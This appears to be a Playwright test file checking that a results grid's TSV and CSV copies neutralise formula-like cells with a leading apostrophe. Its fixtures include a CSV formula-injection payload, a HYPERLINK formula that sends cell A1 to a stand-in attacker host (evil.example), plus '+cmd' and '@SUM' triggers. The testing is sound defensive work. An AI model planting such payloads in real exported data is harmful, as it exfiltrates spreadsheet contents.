// Copies from the results grid (headless Chromium, the real page): text cells a spreadsheet would
// run as formulas (=HYPERLINK(...) from a page URL, @, +, -, tab) get a leading apostrophe in TSV
// and CSV, column names too, on the page's own path and the worker's (large selections); numbers
// stay as they are, JSON is unchanged, and the load's `neutraliseFormulas: false` (the setting
// turned off) copies the raw text.
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import type { SettingsMessage } from "../../src/shared/resultsProtocol";
import { typedResponse } from "./fixtures";
import { clickCell, copyCount, lastCopy, loadResults, nextCopy, openPage } from "./page";
import { startWebviewSuite, type WebviewSuite } from "./suite";

/* eslint-disable @typescript-eslint/no-explicit-any */
declare const window: any;

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
/** Rows past the page's own copy limit (2,000): the worker builds that copy. */
const ROWS = 2500;

const rows: unknown[][] = [
    [HYPERLINK, -5, "-5", "@SUM(A1)"],
    ["+cmd", 3, "\t=1+1", "plain"],
];
for (let i = rows.length; i < ROWS; i++) rows.push([`=${i}`, -i, "ok", "-x"]);
const fixture = typedResponse(
    [
        ["=url", "String"],
        ["n", "Int64"],
        ["s", "String"],
        ["t", "String"],
    ],
    rows,
);

describe("copying formula-like text from the grid (webview)", function () {
    let suite: WebviewSuite;
    let page: Page;

    before(async function () {
        this.timeout(120_000);
        suite = await startWebviewSuite({ formulas: fixture.text });
    });

    after(() => suite?.close());

    afterEach(() => page?.close());

    /** The page with the fixture loaded, the setting as given (absent: the page's default). */
    async function open(neutraliseFormulas?: boolean): Promise<void> {
        page = await openPage(suite.browser, suite.server);
        const settings = neutraliseFormulas === undefined ? {} : { neutraliseFormulas };
        await loadResults(page, [{ name: "formulas", fixture }], null, settings);
    }

    /** Selects the first two rows, every column. */
    async function selectTop(): Promise<void> {
        await clickCell(page, 0, 0);
        await clickCell(page, 1, 3, ["Shift"]);
    }

    /** Copies column 0 whole (header click, Ctrl+C): the worker builds it. */
    async function copyColumn(): Promise<string[]> {
        await page.locator('.hcell[aria-colindex="2"] .hname').click();
        const copies = await copyCount(page);
        await page.keyboard.press("Control+c");
        return (await nextCopy(page, copies)).split("\r\n");
    }

    it("neutralises text cells and column names in TSV and CSV, numbers as they are", async () => {
        await open();
        await selectTop();
        await page.keyboard.press("Control+c");
        assert.equal(
            await lastCopy(page),
            `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"\t-5\t'-5\t'@SUM(A1)\r\n` +
                `'+cmd\t3\t"'\t=1+1"\tplain`,
        );
        await page.locator('vscode-button[data-action="copyWithHeaders"]').click();
        assert.match(await lastCopy(page), /^'=url\tn\ts\tt\r\n"'=HYPERLINK/);
        await page.locator('vscode-button[data-action="copyCsv"]').click();
        assert.equal(
            await lastCopy(page),
            "'=url,n,s,t\r\n" +
                `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",-5,'-5,'@SUM(A1)\r\n` +
                `'+cmd,3,"'\t=1+1",plain`,
        );
        // JSON keeps every value as it is.
        await page.locator('vscode-button[data-action="copyJson"]').click();
        assert.deepEqual(JSON.parse(await lastCopy(page)), [
            { "=url": HYPERLINK, n: -5, s: "-5", t: "@SUM(A1)" },
            { "=url": "+cmd", n: 3, s: "\t=1+1", t: "plain" },
        ]);
        // One cell: the value itself, unquoted, made inert.
        await clickCell(page, 0, 0);
        await page.keyboard.press("Control+c");
        assert.equal(await lastCopy(page), `'${HYPERLINK}`);
    });

    it("neutralises a large copy the worker builds", async () => {
        await open();
        const lines = await copyColumn();
        assert.equal(lines.length, ROWS);
        assert.equal(lines[0], `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`);
        assert.equal(lines[1], "'+cmd");
        assert.equal(lines[ROWS - 1], `'=${ROWS - 1}`);
    });

    it("copies the raw text when the setting is off, on either path", async () => {
        await open(false);
        await selectTop();
        await page.locator('vscode-button[data-action="copyCsv"]').click();
        assert.equal(
            await lastCopy(page),
            "=url,n,s,t\r\n" +
                `"=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",-5,-5,@SUM(A1)\r\n` +
                `+cmd,3,\t=1+1,plain`,
        );
        const lines = await copyColumn();
        assert.equal(lines[1], "+cmd");
        assert.equal(lines[ROWS - 1], `=${ROWS - 1}`);
    });

    it("applies the setting turned back on to the page already open", async () => {
        await open(false);
        const settings: SettingsMessage = { type: "settings", neutraliseFormulas: true };
        await page.evaluate((m) => window.postMessage(m, "*"), settings);
        await selectTop();
        await page.locator('vscode-button[data-action="copyCsv"]').click();
        assert.match(await lastCopy(page), /^'=url,n,s,t\r\n"'=HYPERLINK/);
        const lines = await copyColumn();
        assert.equal(lines[1], "'+cmd");
    });
});
